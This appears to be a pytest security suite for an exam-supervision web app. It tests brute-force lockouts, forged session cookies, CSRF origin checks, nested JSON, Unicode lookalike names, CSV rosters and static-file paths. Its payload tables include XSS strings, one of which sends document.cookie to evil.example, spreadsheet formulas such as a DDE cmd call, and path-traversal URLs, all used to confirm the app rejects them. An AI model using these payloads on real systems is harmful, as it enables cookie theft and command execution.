"""Attacks through the real app, on SQLite and PostgreSQL: guessing codes and passwords,
forged and stolen cookies, hostile payloads, hostile rosters.

Websockets are covered elsewhere (tests/realtime, tests/integration/test_live.py).
"""

from __future__ import annotations

import asyncio
import csv
import io
import random
import re
import time
from collections.abc import AsyncIterator
from typing import Any

import httpx
import pytest
from itsdangerous import TimestampSigner, URLSafeTimedSerializer
from sqlalchemy import text
from starlette.applications import Starlette

from app.errors import INCORRECT_DATA, INVALID_SESSION_OR_CODE
from app.main import create_app
from app.security import CANDIDATE_COOKIE, LOGIN_COOKIE
from app.settings import load_settings
from tests.conftest import ORIGIN, World, digest, event_log

RETRY = re.compile(r"réessayer dans (\d+) minutes?\.")
DAY = 24 * 3600


def from_address(app: Starlette, n: int, cookies: httpx.Cookies | None = None) -> httpx.AsyncClient:
    """A client at 10.0.0.n: the limits are per target, so spreading addresses gains nothing."""
    return httpx.AsyncClient(
        transport=httpx.ASGITransport(app=app, client=(f"10.0.0.{n}", 1234)),
        base_url=ORIGIN,
        headers={"Origin": ORIGIN},
        cookies=cookies,
        timeout=30,
    )


class Site:
    """A centre with two open sessions (A and B), one enrolled candidate in each, a
    supervisor holding access to A only, and another account."""

    def __init__(self, world: World) -> None:
        self.world = world
        self.app = world.app

    async def build(self) -> Site:
        w = self.world
        self.staff = await w.user("admin@testix.fr", "Alice", "Martin")
        self.centre = await w.centre("Centre de Testix", "admin@testix.fr")
        self.a = await w.session(self.staff, self.centre)
        self.b = await w.session(self.staff, self.centre, room="Salle 4")
        self.cand_a = await self.enrol(self.a, "DELARUE", "Sophie", "2001-07-04")
        self.cand_b = await self.enrol(self.b, "DUPONT", "Paul", "1997-05-21")
        self.sup = await w.user("marie@testix.fr", "Marie", "Curie")
        self.other = await w.user("pierre@testix.fr", "Pierre", "Curie")
        r = await self.sup.post("/api/supervision/access", json=self.access_body(self.a))
        assert r.status_code == 204, r.text
        return self

    async def enrol(self, session: dict[str, Any], last: str, first: str, birth: str) -> int:
        body = {"last_name": last, "first_name": first, "birthdate": birth}
        r = await self.staff.post(f"/api/sessions/{session['id']}/candidates", json=body)
        assert r.status_code == 201, r.text
        return int(r.json()["candidate"]["id"])

    @staticmethod
    def access_body(session: dict[str, Any], password: str | None = None) -> dict[str, Any]:
        return {"session_id": session["id"], "supervisor_password": password or session["supervisor_password"]}

    @staticmethod
    def join_body(session: dict[str, Any], code: str | None = None, **who: str) -> dict[str, Any]:
        body = {"session_id": session["id"], "access_code": code or session["access_code"]}
        return body | {"first_name": "Sophie", "last_name": "DELARUE", "birthdate": "2001-07-04"} | who

    async def presence(self, cid: int, authorized: bool = True) -> None:
        r = await self.sup.post(
            f"/api/supervision/sessions/{self.a['id']}/candidates/{cid}/presence", json={"authorized": authorized}
        )
        assert r.status_code == 200, r.text


@pytest.fixture
async def site(world: World) -> Site:
    return await Site(world).build()


def wrong_password(right: str) -> str:
    return "C-BBBBB" if right != "C-BBBBB" else "C-CCCCC"


def wrong_code(right: str) -> str:
    return "BBBB22" if right != "BBBB22" else "CCCC33"


def assert_locked(r: httpx.Response) -> int:
    assert r.status_code == 429, r.text
    body = r.json()
    assert body["error"]["code"] == "TOO_MANY_ATTEMPTS"
    match = RETRY.search(body["error"]["message"])
    assert match, body["error"]["message"]
    retry_after = int(r.headers["retry-after"])
    assert 0 < retry_after <= 300
    assert int(match.group(1)) == -(-retry_after // 60)  # the message rounds up to whole minutes
    return retry_after


# ---------------------------------------------------------------- guessing


async def test_session_password_locks_after_five_failures_from_many_addresses(site: Site) -> None:
    attacker = site.other.cookies
    for n in range(5):
        async with from_address(site.app, n + 1, attacker) as c:
            r = await c.post(
                "/api/supervision/access", json=site.access_body(site.b, wrong_password(site.b["supervisor_password"]))
            )
        assert r.status_code == 403 and r.json()["error"] == {"code": "INCORRECT_DATA", "message": INCORRECT_DATA}
    before = digest(site.app)
    async with from_address(site.app, 50, attacker) as c:
        assert_locked(await c.post("/api/supervision/access", json=site.access_body(site.b, "C-CCCCC")))
        # Even the right password waits: the known trade-off of a per-target lock.
        assert_locked(await c.post("/api/supervision/access", json=site.access_body(site.b)))
    async with from_address(site.app, 51, site.sup.cookies) as c:
        assert_locked(await c.post("/api/supervision/access", json=site.access_body(site.b)))
        assert digest(site.app) == before
        # Other targets still work: session A for a rightful supervisor.
        assert (await c.post("/api/supervision/access", json=site.access_body(site.a))).status_code == 204


async def test_access_code_locks_after_five_failures_from_many_addresses(site: Site) -> None:
    await site.presence(site.cand_a)
    for n in range(5):
        async with from_address(site.app, n + 1) as c:
            r = await c.post("/api/candidate/join", json=site.join_body(site.a, wrong_code(site.a["access_code"])))
        assert r.status_code == 404
        assert r.json()["error"] == {"code": "INVALID_SESSION_OR_CODE", "message": INVALID_SESSION_OR_CODE}
    async with from_address(site.app, 60) as c:
        assert_locked(await c.post("/api/candidate/join", json=site.join_body(site.a)))
    # Session B's door is another target.
    async with from_address(site.app, 61) as c:
        r = await c.post(
            "/api/candidate/join",
            json=site.join_body(site.b, first_name="Paul", last_name="Dupont", birthdate="1997-05-21"),
        )
    assert r.status_code == 403 and r.json()["error"]["code"] == "CANDIDATE_NOT_AUTHORIZED_TO_JOIN_SESSION"


async def test_login_locks_after_five_failures_from_many_addresses(site: Site) -> None:
    for n in range(5):
        async with from_address(site.app, n + 1) as c:
            r = await c.post("/api/auth/login", json={"email": "marie@testix.fr", "password": f"mauvais{n}x"})
        assert r.status_code == 401 and r.json()["error"]["code"] == "INVALID_CREDENTIALS"
    async with from_address(site.app, 70) as c:
        # The right password, and the same e-mail written differently: still the same target.
        retry = assert_locked(
            await c.post("/api/auth/login", json={"email": " MARIE@Testix.fr ", "password": "motdepasse1"})
        )
        assert retry > 240
        assert LOGIN_COOKIE not in c.cookies
        r = await c.post("/api/auth/login", json={"email": "pierre@testix.fr", "password": "motdepasse1"})
        assert r.status_code == 200 and LOGIN_COOKIE in c.cookies


async def test_right_logins_are_not_counted_as_tries(site: Site) -> None:
    """Each try is held as failed until the password proves right, then forgotten."""
    for _ in range(4):
        r = await site.other.post("/api/auth/login", json={"email": "marie@testix.fr", "password": "mauvais1x"})
        assert r.status_code == 401
    for _ in range(8):
        r = await site.other.post("/api/auth/login", json={"email": "marie@testix.fr", "password": "motdepasse1"})
        assert r.status_code == 200, r.text
    assert (
        await site.other.post("/api/auth/login", json={"email": "marie@testix.fr", "password": "x1"})
    ).status_code == 401
    assert_locked(
        await site.other.post("/api/auth/login", json={"email": "marie@testix.fr", "password": "motdepasse1"})
    )


async def test_unknown_targets_count_apart(site: Site) -> None:
    """Guesses on a session that does not exist lock that number only."""
    for _ in range(6):
        r = await site.other.post(
            "/api/supervision/access", json={"session_id": 999999, "supervisor_password": "C-BBBBB"}
        )
    assert r.status_code == 429
    assert (await site.other.post("/api/supervision/access", json=site.access_body(site.a))).status_code == 204


@pytest.mark.parametrize("target", ["session-password", "access-code", "login"])
async def test_simultaneous_guesses_cannot_exceed_the_limit(site: Site, target: str) -> None:
    """Twenty guesses fired at once from twenty addresses: at most five are judged."""

    def guess(c: httpx.AsyncClient, n: int) -> Any:
        if target == "session-password":
            return c.post(
                "/api/supervision/access", json=site.access_body(site.a, f"C-{'BCDFGHJKMPQRTVWXY'[n % 17]}BBBB")
            )
        if target == "access-code":
            return c.post("/api/candidate/join", json=site.join_body(site.a, f"{'BCDFGHJKMPQRTVWXY'[n % 17]}BBB22"))
        return c.post("/api/auth/login", json={"email": "marie@testix.fr", "password": f"mauvais{n}x"})

    cookies = site.other.cookies if target == "session-password" else None
    clients = [from_address(site.app, n + 1, cookies) for n in range(20)]
    try:
        answers = await asyncio.gather(*(guess(c, n) for n, c in enumerate(clients)))
    finally:
        for c in clients:
            await c.aclose()
    # 503: the password-hash pool was full, so the guess was refused unjudged.
    judged = [r for r in answers if r.status_code not in (429, 503)]
    assert len(judged) <= 5, f"{len(judged)} guesses judged: {[r.status_code for r in answers]}"
    for r in answers:
        if r.status_code == 429:
            assert_locked(r)
        elif r.status_code == 503:
            assert target == "login" and r.json()["error"]["code"] == "SERVICE_BUSY"


async def test_the_lock_lifts_when_the_window_has_passed(settings_env: dict[str, str]) -> None:
    app = create_app(load_settings({**settings_env, "RATE_LIMIT_WINDOW_SECONDS": "2"}))
    async with app.router.lifespan_context(app):
        world = World(app)
        try:
            site = await Site(world).build()
            for _ in range(5):
                r = await site.other.post("/api/supervision/access", json=site.access_body(site.b, "C-BBBBB"))
            assert r.status_code == 403
            r = await site.other.post("/api/supervision/access", json=site.access_body(site.b))
            assert r.status_code == 429 and int(r.headers["retry-after"]) <= 2
            await asyncio.sleep(2.2)
            assert (await site.other.post("/api/supervision/access", json=site.access_body(site.b))).status_code == 204
        finally:
            await world.close()


# ---------------------------------------------------------------- cookies


class SignedAt(TimestampSigner):
    """itsdangerous' own signer, with the clock set by the test."""

    at = 0

    def get_timestamp(self) -> int:
        return self.at


def signed(secret: str, salt: str, payload: dict[str, Any], age: int) -> str:
    signer = type("Signer", (SignedAt,), {"at": int(time.time()) - age})
    return URLSafeTimedSerializer(secret, salt=salt, signer=signer).dumps(payload)


@pytest.fixture
async def second_app(settings_env: dict[str, str]) -> AsyncIterator[Starlette]:
    """The same database served with another SECRET_KEY."""
    app = create_app(load_settings({**settings_env, "SECRET_KEY": "another-secret-" + "z" * 32}))
    async with app.router.lifespan_context(app):
        yield app


async def user_id(c: httpx.AsyncClient) -> int:
    return int((await c.get("/api/me")).json()["user"]["id"])


LOGIN_FORGERIES = [
    "garbage",
    "empty-signature",
    "tampered-user",
    "other-key",
    "expired",
    "candidate-cookie",
    "oversized",
]


@pytest.mark.parametrize("forgery", LOGIN_FORGERIES)
async def test_forged_login_cookies_open_nothing(site: Site, settings_env: dict[str, str], forgery: str) -> None:
    key = settings_env["SECRET_KEY"]
    me = await user_id(site.sup)
    genuine = site.sup.cookies[LOGIN_COOKIE]
    # The genuine login session's key in every forgery: each one is wrong in one way only.
    s = URLSafeTimedSerializer(key, salt="surveillance.login").loads(genuine)["s"]
    value = {
        "garbage": "bm90IGEgY29va2ll",
        "empty-signature": genuine.rsplit(".", 1)[0] + ".",
        # Another user's id spliced onto this cookie's timestamp and signature.
        "tampered-user": signed(key, "surveillance.login", {"u": me + 1, "s": s}, 0).split(".")[0]
        + "."
        + genuine.split(".", 1)[1],
        "other-key": signed("another-secret-" + "z" * 32, "surveillance.login", {"u": me, "s": s}, 0),
        "expired": signed(key, "surveillance.login", {"u": me, "s": s}, 15 * DAY),
        "candidate-cookie": signed(key, "surveillance.candidate", {"u": me, "s": s}, 0),
        "oversized": genuine + "A" * 600,
    }[forgery]
    before = digest(site.app)
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=site.app),
        base_url=ORIGIN,
        headers={"Origin": ORIGIN},
        cookies={LOGIN_COOKIE: value},
    ) as c:
        r = await c.get("/api/me")
        assert r.status_code == 401 and r.json()["error"]["code"] == "NOT_AUTHENTICATED"
        r = await c.get(f"/api/supervision/sessions/{site.a['id']}")
        assert r.status_code == 401
        r = await c.post(
            f"/api/supervision/sessions/{site.a['id']}/candidates/{site.cand_a}/presence", json={"authorized": True}
        )
        assert r.status_code == 401
    assert digest(site.app) == before


async def test_a_cookie_signed_now_with_our_key_is_accepted(site: Site, settings_env: dict[str, str]) -> None:
    """The control for the forgeries: the same signing, fresh and with the right key, works."""
    me = await user_id(site.sup)
    # The same login session's key (a login is a server-side row the cookie names).
    key = URLSafeTimedSerializer(settings_env["SECRET_KEY"], salt="surveillance.login").loads(
        site.sup.cookies[LOGIN_COOKIE]
    )["s"]
    value = signed(settings_env["SECRET_KEY"], "surveillance.login", {"u": me, "s": key}, 13 * DAY)
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=site.app), base_url=ORIGIN, cookies={LOGIN_COOKIE: value}
    ) as c:
        assert (await c.get("/api/me")).status_code == 200


async def test_a_cookie_from_an_app_with_another_key_is_refused(site: Site, second_app: Starlette) -> None:
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=second_app), base_url=ORIGIN, headers={"Origin": ORIGIN}
    ) as c:
        r = await c.post("/api/auth/login", json={"email": "marie@testix.fr", "password": "motdepasse1"})
        assert r.status_code == 200
        foreign = c.cookies[LOGIN_COOKIE]
        assert (await c.get("/api/me")).status_code == 200  # valid where it was signed
    async with httpx.AsyncClient(
        transport=httpx.ASGITransport(app=site.app), base_url=ORIGIN, cookies={LOGIN_COOKIE: foreign}
    ) as c:
        assert (await c.get("/api/me")).status_code == 401


async def test_expired_and_forged_candidate_cookies(site: Site, settings_env: dict[str, str]) -> None:
    await site.presence(site.cand_a)
    joined = site.world.client()
    r = await joined.post("/api/candidate/join", json=site.join_body(site.a))
    assert r.status_code == 200
    key = settings_env["SECRET_KEY"]
    held = site.app.state.services.signer.read_candidate(joined.cookies[CANDIDATE_COOKIE])
    claim = {"c": site.cand_a, "s": site.a["id"], "t": 1, "k": held.secret}
    cases = {
        "fresh": (signed(key, "surveillance.candidate", claim, 0), 200),
        "no-secret": (signed(key, "surveillance.candidate", {k: v for k, v in claim.items() if k != "k"}, 0), 401),
        "other-secret": (signed(key, "surveillance.candidate", claim | {"k": "x" * 43}, 0), 401),
        "long-secret": (signed(key, "surveillance.candidate", claim | {"k": held.secret * 3}, 0), 401),
        "expired": (signed(key, "surveillance.candidate", claim, 2 * DAY), 401),
        "other-key": (signed("another-secret-" + "z" * 32, "surveillance.candidate", claim, 0), 401),
        "login-salt": (signed(key, "surveillance.login", claim, 0), 401),
        "old-token": (signed(key, "surveillance.candidate", claim | {"t": 0}, 0), 401),
        "other-session": (signed(key, "surveillance.candidate", claim | {"s": site.b["id"]}, 0), 401),
    }
    for name, (value, status) in cases.items():
        async with httpx.AsyncClient(
            transport=httpx.ASGITransport(app=site.app), base_url=ORIGIN, cookies={CANDIDATE_COOKIE: value}
        ) as c:
            r = await c.get("/api/candidate/test")
        assert r.status_code == status, (name, r.text)


async def test_a_candidates_cookie_opens_no_staff_or_supervisor_route(site: Site) -> None:
    await site.presence(site.cand_a)
    cand = site.world.client()
    assert (await cand.post("/api/candidate/join", json=site.join_body(site.a))).status_code == 200
    before = digest(site.app)
    sid, cid = site.a["id"], site.cand_a
    for method, path in [
        ("GET", "/api/me"),
        ("GET", f"/api/sessions/{sid}"),
        ("GET", f"/api/supervision/sessions/{sid}"),
        ("POST", f"/api/supervision/sessions/{sid}/candidates/{cid}/presence"),
        ("POST", f"/api/supervision/sessions/{sid}/candidates/{cid}/end-test"),
        ("POST", f"/api/sessions/{sid}/finalize"),
        ("GET", f"/api/sessions/{sid}/supervisor-kit.pdf"),
    ]:
        r = await cand.request(method, path, json={"authorized": False} if method == "POST" else None)
        assert r.status_code == 401, (path, r.text)
        assert r.json()["error"]["code"] == "NOT_AUTHENTICATED"
    assert digest(site.app) == before


async def test_a_supervisor_of_one_session_cannot_touch_another(site: Site) -> None:
    before, log_b = digest(site.app), await event_log(site.app, site.b["id"])
    a, b = site.a["id"], site.b["id"]
    r = await site.sup.get(f"/api/supervision/sessions/{b}")
    assert r.status_code == 403 and r.json()["error"]["code"] == "NO_SUPERVISOR_ACCESS"
    for action, body in [("presence", {"authorized": True}), ("authorize-resume", None), ("end-test", None)]:
        r = await site.sup.post(f"/api/supervision/sessions/{b}/candidates/{site.cand_b}/{action}", json=body)
        assert r.status_code == 403 and r.json()["error"]["code"] == "NO_SUPERVISOR_ACCESS"
        # Through the session it does supervise, B's candidate is unknown.
        r = await site.sup.post(f"/api/supervision/sessions/{a}/candidates/{site.cand_b}/{action}", json=body)
        assert r.status_code == 404 and r.json()["error"]["code"] == "CANDIDATE_NOT_FOUND"
        assert "DUPONT" not in r.text
    assert digest(site.app) == before
    assert await event_log(site.app, b) == log_b


async def test_allowed_origins_extend_the_same_origin_rule(settings_env: dict[str, str]) -> None:
    # COOKIE_SECURE=false: an https origin would otherwise make the cookies Secure, which
    # these plain-HTTP test clients would not send back.
    app = create_app(
        load_settings({**settings_env, "ALLOWED_ORIGINS": "https://ecole.example/", "COOKIE_SECURE": "false"})
    )
    async with app.router.lifespan_context(app):
        world = World(app)
        try:
            site = await Site(world).build()
            path = f"/api/supervision/sessions/{site.a['id']}/candidates/{site.cand_a}/presence"
            r = await site.sup.post(path, json={"authorized": True}, headers={"Origin": "https://ecole.example"})
            assert r.status_code == 200
            r = await site.sup.post(path, json={"authorized": False}, headers={"Origin": "https://ecole.example.evil"})
            assert r.status_code == 403 and r.json()["error"]["code"] == "CSRF_REJECTED"
            r = await site.sup.post(path, json={"authorized": False}, headers={"Origin": "http://ecole.example"})
            assert r.status_code == 403
        finally:
            await world.close()


# ---------------------------------------------------------------- payloads

NESTED = {
    "arrays": b"[" * 10_000 + b"]" * 10_000,
    "objects": b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
    "in-a-field": b'{"session_id": ' + b"[" * 10_000 + b"]" * 10_000 + b"}",
}


@pytest.mark.parametrize("shape", list(NESTED))
@pytest.mark.parametrize(
    "path", ["/api/candidate/join", "/api/auth/login", "/api/supervision/access", "/api/auth/signup"]
)
async def test_deeply_nested_json_is_refused(site: Site, shape: str, path: str) -> None:
    before = digest(site.app)
    r = await site.other.post(path, content=NESTED[shape], headers={"Content-Type": "application/json"})
    assert r.status_code == 422, r.text
    assert r.json()["error"]["code"] == "INVALID_PAYLOAD"
    assert "Traceback" not in r.text and "Recursion" not in r.text
    deeper = b"[" * 100_000 + b"]" * 100_000
    r = await site.other.post(path, content=deeper, headers={"Content-Type": "application/json"})
    assert r.status_code == 413
    assert (await site.other.get("/api/me")).status_code == 200  # and the app is still here
    assert digest(site.app) == before


SOPHIE_VARIANTS = {
    "combining-accent": ("So\u0301phie", "DELARUE"),
    "decomposed-umlaut": ("Sophie", "DELARUE\u0308"),
    "right-to-left-marks": ("\u200fSophie\u200e", "\u202bDELARUE\u202c"),
    "zero-width-space": ("So\u200bphie", "DELA\u200dRUE"),
    "byte-order-mark": ("\ufeffSophie", "DELARUE"),
    "fullwidth": ("Ｓｏｐｈｉｅ", "ＤＥＬＡＲＵＥ"),
    "case-hyphens-spaces": ("  sophie ", "de-la-rue"),
}
IMPOSTORS = {
    "cyrillic-es": ("\u0405ophie", "DELARUE"),
    "greek-omicron": ("S\u03bfphie", "DELARUE"),
    "other-letter": ("Sophia", "DELARUE"),
}


@pytest.mark.parametrize("variant", list(SOPHIE_VARIANTS))
async def test_invisible_and_combining_characters_still_match_on_join(site: Site, variant: str) -> None:
    first, last = SOPHIE_VARIANTS[variant]
    if variant == "case-hyphens-spaces":
        site.cand_a = await site.enrol(site.a, "De La Rue", "Sophie", "2001-07-04")
    await site.presence(site.cand_a)
    r = await site.world.client().post(
        "/api/candidate/join", json=site.join_body(site.a, first_name=first, last_name=last)
    )
    assert r.status_code == 200, r.text
    assert r.json()["candidate"]["id"] == site.cand_a


@pytest.mark.parametrize("variant", list(IMPOSTORS))
async def test_lookalike_letters_do_not_match(site: Site, variant: str) -> None:
    first, last = IMPOSTORS[variant]
    await site.presence(site.cand_a)
    before = digest(site.app)
    r = await site.world.client().post(
        "/api/candidate/join", json=site.join_body(site.a, first_name=first, last_name=last)
    )
    assert r.status_code == 404 and r.json()["error"]["code"] == "CANDIDATE_NOT_FOUND"
    assert digest(site.app) == before


MARKUP = {
    "last_name": "<script>alert('x')</script>",
    "first_name": '"><img src=x onerror=alert(1)>',
    "address": "<script>document.location='https://evil.example/?'+document.cookie</script>",
    "room": "<b onmouseover=alert(1)>Salle</b> & Cie",
    "examiner": "{{ 7*7 }} ${7*7} </textarea>",
}


async def test_markup_is_stored_and_returned_verbatim_in_json(site: Site) -> None:
    s = await site.world.session(
        site.staff, site.centre, address=MARKUP["address"], room=MARKUP["room"], examiner=MARKUP["examiner"]
    )
    body = {"last_name": MARKUP["last_name"], "first_name": MARKUP["first_name"], "birthdate": "2000-01-01"}
    r = await site.staff.post(f"/api/sessions/{s['id']}/candidates", json=body)
    assert r.status_code == 201, r.text
    cid = r.json()["candidate"]["id"]
    detail = await site.staff.get(f"/api/sessions/{s['id']}")
    assert detail.headers["content-type"].startswith("application/json")
    data = detail.json()
    for name in ("address", "room", "examiner"):
        assert data["session"][name] == MARKUP[name]
    assert data["candidates"][0]["last_name"] == MARKUP["last_name"]
    assert data["candidates"][0]["first_name"] == MARKUP["first_name"]
    assert (await site.sup.post("/api/supervision/access", json=site.access_body(s))).status_code == 204
    snap = (await site.sup.get(f"/api/supervision/sessions/{s['id']}")).json()
    assert snap["session"]["address"] == MARKUP["address"]
    assert next(c for c in snap["candidates"] if c["id"] == cid)["first_name"] == MARKUP["first_name"]
    kit = await site.staff.get(f"/api/sessions/{s['id']}/supervisor-kit.pdf")
    assert kit.status_code == 200 and kit.headers["content-type"] == "application/pdf"
    # The event log keeps the same text, as JSON.
    with site.app.state.services.db.engine.connect() as conn:
        payloads = (
            conn.execute(text("SELECT payload FROM session_event WHERE session_id = :s"), {"s": s["id"]})
            .scalars()
            .all()
        )
    assert any(MARKUP["last_name"] in p and MARKUP["first_name"].replace('"', '\\"') in p for p in payloads)


# ---------------------------------------------------------------- rosters

HEADER = "nom;prenom;date_naissance;temps_majore\n"
FORMULAS = {
    "cmd-calc": ("=cmd|' /C calc'!A0", "Paul", "nom"),
    "plus": ("DUPONT", "+1+1", "prenom"),
    "minus": ("-2+3", "Paul", "nom"),
    "at-sum": ("@SUM(A1:A9)", "Paul", "nom"),
    "tab-then-equals": ("\t=1+2", "Paul", "nom"),
    "hyperlink": ('=HYPERLINK("https://evil.example";"clic")', "Paul", "nom"),
}


async def import_csv(site: Site, raw: bytes, session: dict[str, Any] | None = None) -> httpx.Response:
    sid = (session or site.a)["id"]
    return await site.staff.post(
        f"/api/sessions/{sid}/candidates/import", content=raw, headers={"Content-Type": "text/csv"}
    )


@pytest.mark.parametrize("formula", list(FORMULAS))
async def test_formula_cells_refuse_the_whole_roster(site: Site, formula: str) -> None:
    last, first, field = FORMULAS[formula]
    out = io.StringIO()
    csv.writer(out, delimiter=";", lineterminator="\n").writerow([last, first, "03/04/2001", ""])
    raw = (HEADER + "MARTIN;Léa;01/02/2000;\n" + out.getvalue()).encode()
    before = digest(site.app)
    r = await import_csv(site, raw)
    assert r.status_code == 422, r.text
    assert r.json()["error"]["code"] == "INVALID_CSV"
    assert [(row["line"], row["field"]) for row in r.json()["rows"]] == [(3, field)]
    assert digest(site.app) == before


async def test_a_windows_1252_roster_is_read_as_such(site: Site) -> None:
    raw = (HEADER + "LÉGER;Hélène;01/02/2000;\nÇA;Zoë;03/04/2001;30 %\n").encode("cp1252")
    r = await import_csv(site, raw)
    assert r.status_code == 201 and r.json() == {"imported": 2}
    names = {
        (c["last_name"], c["first_name"])
        for c in (await site.staff.get(f"/api/sessions/{site.a['id']}")).json()["candidates"]
    }
    assert {("LÉGER", "Hélène"), ("ÇA", "Zoë")} <= names


async def test_a_utf8_roster_with_byte_order_mark_is_read(site: Site) -> None:
    r = await import_csv(site, "\ufeff".encode() + (HEADER + "LÉGER;Hélène;01/02/2000;\n").encode())
    assert r.status_code == 201, r.text


@pytest.mark.parametrize(
    "garbage",
    ["random-bytes", "utf-16", "nul-bytes", "pdf", "unterminated-quote"],
)
async def test_binary_or_broken_rosters_are_refused(site: Site, garbage: str) -> None:
    raw = {
        "random-bytes": random.Random(7).randbytes(4000),
        "utf-16": (HEADER + "LÉGER;Hélène;01/02/2000;\n").encode("utf-16"),
        "nul-bytes": HEADER.encode() + b"A\x00B;C\x00;01/01/2000;\n",
        "pdf": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n",
        "unterminated-quote": (HEADER + 'MARTIN;"Léa;01/02/2000;\n').encode(),
    }[garbage]
    before = digest(site.app)
    r = await import_csv(site, raw)
    assert r.status_code == 422, r.text
    assert r.json()["error"]["code"] == "INVALID_CSV"
    assert digest(site.app) == before


async def test_an_import_is_all_or_nothing(site: Site) -> None:
    good = "".join(f"NOM{i:03d};Prénom{i:03d};01/01/2000;\n" for i in range(300))
    before = digest(site.app)
    for tail, line in (
        ("DELARUE;Sophie;04/07/2001;\n", 302),
        ("NOM000;prénom000;2000-01-01;\n", 302),
        ("X;Y;32/01/2000;\n", 302),
    ):
        r = await import_csv(site, (HEADER + good + tail).encode())
        assert r.status_code == 422, r.text
        assert [row["line"] for row in r.json()["rows"]] == [line]
        assert digest(site.app) == before
    too_many = "".join(f"NOM{i:03d};Prénom{i:03d};01/01/2000;\n" for i in range(501))
    r = await import_csv(site, (HEADER + too_many).encode())
    assert r.status_code == 422 and digest(site.app) == before
    r = await import_csv(site, (HEADER + good).encode())
    assert r.status_code == 201 and r.json() == {"imported": 300}


@pytest.mark.parametrize(
    "path", ["/static/../app/settings.py", "/static/%2e%2e/app/settings.py", "/static/..%2fapp%2fsettings.py"]
)
async def test_static_files_stay_in_their_folder(site: Site, path: str) -> None:
    r = await site.other.get(path)
    assert r.status_code == 404
    assert "SECRET_KEY" not in r.text
